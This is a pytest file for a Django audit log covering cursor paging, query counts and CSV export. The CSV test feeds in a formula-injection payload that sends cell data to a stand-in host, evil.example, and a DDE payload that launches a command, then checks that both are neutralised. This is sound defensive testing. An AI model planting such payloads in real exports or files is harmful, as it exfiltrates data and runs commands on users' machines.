"""The audit log: every sign-in, failed sign-in, lockout, role, permission and token change,
and every change to money, workplans and progress, for administrators only; filtered, paged
by a cursor that loses nothing, and exported as CSV with formulas made inert."""

import csv
import datetime
import io

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext

from donors.models import Disbursement, FundingAgreement
from donors.services import disbursement_update
from organisations.models import SecurityEvent
from organisations.tokens import api_token_create, api_token_revoke
from projects.models import ExchangeRate
from reports import audit
from reports.audit import AuditFilters
from tests.audit.audit_support import KARACHI, URL, D, Kind, _events, _rows, _sign_in
from tests.factories import (
    ReceivedDisbursementFactory,
)


@pytest.fixture(autouse=True)
def _limits(settings):
    """The shipped lockout limits; throttle counters start empty."""
    settings.AXES_FAILURE_LIMIT = 5
    settings.CTPORTAL_ADDRESS_FAILURE_LIMIT = 20
    settings.AXES_COOLOFF_TIME = datetime.timedelta(minutes=15)
    cache.clear()
    yield
    cache.clear()


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


# --- Paging by cursor ---------------------------------------------------------------------


def test_pages_walk_every_event_once_even_when_many_share_a_moment(auditor, received, monkeypatch):
    """Eight events of four sources at one microsecond, and two older ones: pages of two."""
    moment = datetime.datetime(2024, 5, 1, 9, 30, 0, 123456, tzinfo=KARACHI)
    earlier = moment - datetime.timedelta(seconds=1)
    for model in (Disbursement, FundingAgreement, ExchangeRate):
        model.history.update(history_date=moment)
    for n in range(5):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN_FAILED, username=f"u{n}", when=moment)
    for n in range(2):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN_FAILED, username=f"old{n}", when=earlier)
    # With the fixture's exchange rate, agreement and tranche.
    total = 5 + 2 + 3
    monkeypatch.setattr(audit, "PAGE_SIZE", 2)

    seen, url, pages = [], URL, 0
    while url:
        response = auditor.get(url)
        seen += [row["what"] for row in _rows(response)]
        url, pages = response.context["older_url"], pages + 1

    assert len(seen) == total == len(set(seen))
    assert pages == 5
    assert seen[-2:] == ["Failed sign-in: old1", "Failed sign-in: old0"]


def test_a_page_reads_at_most_one_page_and_one_row_from_each_source(received):
    for n in range(30):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN_FAILED, username=f"u{n}")

    with CaptureQueriesContext(connection) as queries:
        page = audit.audit_page(filters=AuditFilters(), page_size=10)

    assert len(page.events) == 10
    assert page.next_cursor is not None
    sources = [q["sql"] for q in queries if "ORDER BY" in q["sql"] and "LIMIT" in q["sql"]]
    # The security events and each of the fifteen historical tables, each asked for 11 rows.
    assert len(sources) == 16
    assert all(sql.rstrip().endswith("LIMIT 11") for sql in sources)


def _one_round(n: int, manager, agreement) -> None:
    """n security events and n tranche changes."""
    for i in range(n):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN, username=f"u{i}")
        tranche = ReceivedDisbursementFactory(
            agreement=agreement,
            planned_date=datetime.date(2023, 3, 1) + datetime.timedelta(days=i),
            planned_amount=D("1000.00"),
            planned_usd_rate=D("1.08"),
        )
        disbursement_update(
            disbursement=tranche, received_amount=D("900.00"), user=manager, reason=f"fix {i}"
        )


def _count_queries(client) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(URL).status_code == 200
    return len(queries)


def test_the_query_count_is_the_same_for_one_and_five_events_of_each_kind(
    auditor, manager, received
):
    agreement = received.agreement
    _one_round(1, manager, agreement)
    one = _count_queries(auditor)
    _one_round(4, manager, agreement)
    five = _count_queries(auditor)

    assert len(_rows(auditor.get(URL))) > 10
    assert one == five


# --- CSV ---------------------------------------------------------------------------------


def test_the_csv_has_the_rows_of_the_page_with_formulas_made_inert(
    auditor, client, sana, received, manager
):
    _sign_in(
        client,
        "sana",
        "guess",
        REMOTE_ADDR="192.0.2.10",
        HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    )
    disbursement_update(
        disbursement=received,
        received_amount=D("290000.00"),
        user=manager,
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
    )

    page_rows = _rows(auditor.get(URL))
    response = auditor.get(URL, {"format": "csv"})
    header, *rows = _csv(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    assert header == [
        "When", "Event", "Object type", "What", "Who", "Changes", "Reason", "Detail",
        "IP address", "User agent",
    ]  # fmt: skip
    assert [(r[3], r[4]) for r in rows] == [(r["what"], r["who"]) for r in page_rows]
    changed, failed = rows[0], rows[1]
    assert changed[1:3] == ["Record changed", "Disbursement"]
    assert "Received amount: EUR 300,000.00 → EUR 290,000.00" in changed[5]
    assert changed[6] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert failed[7:] == [
        "Wrong username or password.",
        "192.0.2.10",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ]
    assert datetime.datetime.fromisoformat(changed[0]).tzinfo is not None


def test_the_csv_follows_the_filters(auditor, mixed):
    rows = _csv(auditor.get(URL, {"format": "csv", "kind": "sign_in"}))[1:]

    assert [r[3] for r in rows] == ["Sign-in: Sana Mir"]


def test_the_csv_reads_past_one_chunk(auditor, db, monkeypatch):
    for n in range(7):
        SecurityEvent.objects.create(kind=Kind.SIGN_IN, username=f"u{n}")
    monkeypatch.setattr(audit, "EXPORT_CHUNK", 3)

    rows = _csv(auditor.get(URL, {"format": "csv", "object_type": "security"}))[1:]

    assert [r[3] for r in rows] == [f"Sign-in: u{n}" for n in reversed(range(7))]


def test_revoking_through_the_service_alone_also_records(sana):
    token, _ = api_token_create(user=sana, name="x", expires_in_days=1)
    api_token_revoke(token=token, user=sana)

    assert [kind for kind, *_ in _events()] == [Kind.TOKEN_CREATED, Kind.TOKEN_REVOKED]
